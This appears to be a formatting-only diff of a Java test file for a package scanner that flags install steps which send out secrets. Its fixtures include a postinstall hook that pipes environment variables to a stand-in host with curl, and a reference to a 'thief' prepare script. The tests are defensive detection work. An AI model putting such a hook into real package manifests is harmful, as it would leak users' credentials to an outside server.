@@ -31,8 +31,7 @@ final class CarriedPackageTest {
         "web/composer.json|`{\"scripts\": {\"post-install-cmd\": [\"node scripts/prepare.js\"]}}`",
       })
   void aStepOfAnInstallThatSendsSecretsIsHigh(String path, String steps) {
-    CrateBuilder crate =
-        demo().file(path, steps).file("web/scripts/prepare.js", THIEF_SCRIPT);
+    CrateBuilder crate = demo().file(path, steps).file("web/scripts/prepare.js", THIEF_SCRIPT);
     assertThat(high(crate)).contains("script-conduct");
   }
 
@@ -40,7 +39,10 @@ final class CarriedPackageTest {
   void aStepOfAnInstallIsReadItself() {
     String steps = "{\"scripts\": {\"postinstall\": \"env | curl -d @- http://collect.example\"}}";
     assertThat(high(demo().file("web/package.json", steps))).contains("script-conduct");
-    assertThat(shown(demo().file("web/package.json", steps.replace("postinstall", "test")), SignalWeight.REVIEW))
+    assertThat(
+            shown(
+                demo().file("web/package.json", steps.replace("postinstall", "test")),
+                SignalWeight.REVIEW))
         .isEmpty();
     assertThat(
             shown(
@@ -59,8 +61,9 @@ final class CarriedPackageTest {
         "const n='http://www.w3.org/2000/svg';fetch(u+'/v1',{headers:{secret:s}})",
       })
   void aPageThatAsksItsServerIsNoFinding(String script) {
-    assertThat(shown(demo().file("assets/app.js", script), SignalWeight.NOTE).stream()
-            .filter("script-conduct"::equals))
+    assertThat(
+            shown(demo().file("assets/app.js", script), SignalWeight.NOTE).stream()
+                .filter("script-conduct"::equals))
         .isEmpty();
   }
 
